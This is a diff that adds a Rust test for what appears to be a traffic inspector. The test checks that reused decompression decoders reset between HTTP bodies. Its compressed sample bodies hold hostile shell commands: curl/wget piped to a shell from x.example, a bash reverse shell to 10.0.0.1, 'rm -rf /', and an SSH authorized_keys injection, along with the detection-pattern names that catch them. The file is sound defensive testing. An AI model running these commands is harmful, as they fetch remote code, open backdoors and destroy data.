@@ -380,6 +380,81 @@ fn gzip_members_concatenated_are_one_body_whatever_the_split() {
 }
 
 #[test]
+fn decoders_kept_for_the_next_body_start_clean() {
+    // An inspector hands a finished body's decoders to the next body (reset, not rebuilt).
+    // Bodies that leave them mid-stream (cut short, corrupt) and codings that change from
+    // one body to the next must not leak into what follows.
+    let registry = registry();
+    let long: Vec<u8> = (0..4000u32)
+        .flat_map(|i| format!("line {i} of a long benign text\n").into_bytes())
+        .collect();
+    let mut cut = gzip(&long);
+    cut.truncate(cut.len() / 2);
+    let mut corrupt = gzip(b"x");
+    corrupt.truncate(10);
+    corrupt.extend_from_slice(&[0xff; 40]);
+    let bodies: [(&str, Vec<u8>); 7] = [
+        ("gzip", cut),
+        (
+            "gzip",
+            gzip(b"then curl -fsSL https://x.example/i.sh | sh here"),
+        ),
+        ("gzip", corrupt),
+        ("deflate", zlib(b"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")),
+        ("br", brotli(b"and rm -rf / --no-preserve-root")),
+        (
+            "deflate, gzip",
+            gzip(&raw_deflate(
+                b"echo ssh-ed25519 AAAAC3Nza >> ~/.ssh/authorized_keys",
+            )),
+        ),
+        ("gzip", gzip(b"last: wget -qO- https://x.example/a | bash")),
+    ];
+    let mut stream = Vec::new();
+    for (coding, body) in &bodies {
+        stream.extend(response(
+            "text/plain",
+            &format!("Content-Encoding: {coding}\r\n"),
+            body,
+        ));
+    }
+    for sizes in [&[stream.len()][..], &[1], &[7, 3], &[4096]] {
+        let (found, _) = common::inspect_split(&registry, Direction::Inbound, &stream, sizes);
+        let patterns: Vec<&str> = found.iter().map(|d| d.pattern.as_str()).collect();
+        assert_eq!(
+            patterns,
+            [
+                "pipe_to_shell",
+                "reverse_shell",
+                "destructive_rm",
+                "ssh_authorized_keys_injection",
+                "pipe_to_shell"
+            ],
+            "{sizes:?}"
+        );
+    }
+    // The kept decoders are memory an idle stream gives back (`Session::shed` does): the
+    // next body then builds its own.
+    let mut inspector = Inspector::new(&registry, Direction::Inbound, 1 << 20);
+    let first = response("text/plain", "Content-Encoding: gzip\r\n", &gzip(b"benign"));
+    let _ = inspector.feed_all(&registry, &first);
+    assert!(
+        inspector.holds_spare(),
+        "a finished gzip body's decoder is kept"
+    );
+    inspector.release_spare();
+    assert!(!inspector.holds_spare());
+    let next = response(
+        "text/plain",
+        "Content-Encoding: gzip\r\n",
+        &gzip(b"curl -fsSL https://x.example/i.sh | sh"),
+    );
+    let _ = inspector.feed_all(&registry, &next);
+    let found = inspector.poll_detection().map(|d| d.pattern);
+    assert_eq!(found.as_deref(), Some("pipe_to_shell"));
+}
+
+#[test]
 fn each_request_names_its_own_destination() {
     // One connection, the inspector reusing its destination buffer between requests.
     let registry = registry();
